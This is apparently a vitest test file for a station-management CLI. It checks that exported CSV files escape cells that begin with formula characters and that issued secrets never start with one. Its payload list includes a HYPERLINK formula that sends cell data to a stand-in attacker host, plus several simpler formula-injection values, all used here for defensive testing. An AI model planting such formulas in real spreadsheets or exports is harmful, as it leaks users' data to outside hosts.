// Every CSV the CLI writes (tickets, audit, stations, issued secrets) shows a
// cell starting with = + - @, tab or CR as text in a spreadsheet instead of
// running it: a station (key, corr), the PBX (call id) or an admin (station
// name) chooses those cells. `station import` reads back what export wrote.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { AccountSource, ActionKind } from '../protocol/host-codec.ts';
import { newSecret } from '../provisioner/registry/secret.ts';
import { ManualClock } from '../provisioner/service/clock.ts';
import { intoWrapUp, tempDir, useServiceRig } from './helpers/service-harness.ts';
import { cliIn } from './helpers/station-cli-fixtures.ts';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];
/** What a spreadsheet would run: a cell that, after CSV unquoting, starts with a formula character. */
const runnable = (csv: string) => (parse(csv, { relax_column_count: true }) as string[][]).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

describe('tickets and audit exports', () => {
  const clock = new ManualClock(Date.UTC(2026, 10, 27, 9));
  const rig = useServiceRig({ stations: [{ id: 'wv-01', areas: [] }], service: { clock }, device: { station: 'wv-01', kinds: ['ack', 'lookup'] } });

  it('neutralize call ids, keys and correlation ids that look like formulas', async () => {
    for (const [i, formula] of FORMULAS.filter((f) => !/^[\t\r]/.test(f)).entries()) {
      const callId = formula.slice(0, 64);
      rig.service.ingest({ type: i === 0 ? 'sign_in' : 'ready', station: 'wv-01', ...(i === 0 ? { agent: 'a' } : {}) });
      intoWrapUp(rig.service, 'wv-01', callId);
      await rig.device.publish('action', { key: `${formula.slice(0, 60)}${i}`, kind: ActionKind.TICKET, callId, account: '', createdMs: clock.now() });
      await rig.device.until('ack');
      await rig.device.publish('lookup', { corr: formula.slice(0, 64), account: '400000000001', source: AccountSource.KEYPAD, callId });
      await rig.device.until('lookup');
    }
    const run = cliIn(rig.tmp.dir);
    for (const what of ['tickets', 'audit']) {
      const { code, out } = await run(what, 'export', '--format', 'csv');
      expect(code).toBe(0);
      expect(out).toContain(`'=1+1`);
      expect(runnable(out), what).toEqual([]);
    }
  });
});

describe('station export and import', () => {
  it('neutralize names that look like formulas and read them back as they were', async () => {
    const tmp = tempDir();
    try {
      const run = cliIn(join(tmp.dir, 'home'));
      for (const [i, name] of FORMULAS.entries()) expect((await run('station', 'add', `wv-${i}`, `--name=${name}`)).code).toBe(0);
      const file = join(tmp.dir, 'stations.csv');
      expect((await run('station', 'export', '--out', file)).code).toBe(0);
      const csv = readFileSync(file, 'utf8');
      expect(runnable(csv)).toEqual([]);

      const again = cliIn(join(tmp.dir, 'other-home'));
      expect((await again('station', 'import', file)).code).toBe(0);
      const names = JSON.parse((await again('station', 'list', '--json')).out).map((s: { name: string }) => s.name);
      // Names are trimmed on import, so the tab and CR in front go as they always did.
      expect(names).toEqual(FORMULAS.map((n) => n.trim()));
    } finally {
      tmp.remove();
    }
  });

  it('issue secrets that never start like a formula, so the --secrets-out file needs no change to be used', () => {
    const secrets = Array.from({ length: 3000 }, () => newSecret());
    expect(secrets.filter((s) => /^[=+\-@]/.test(s))).toEqual([]);
    expect(new Set(secrets.map((s) => s.length))).toEqual(new Set([32]));
  });
});
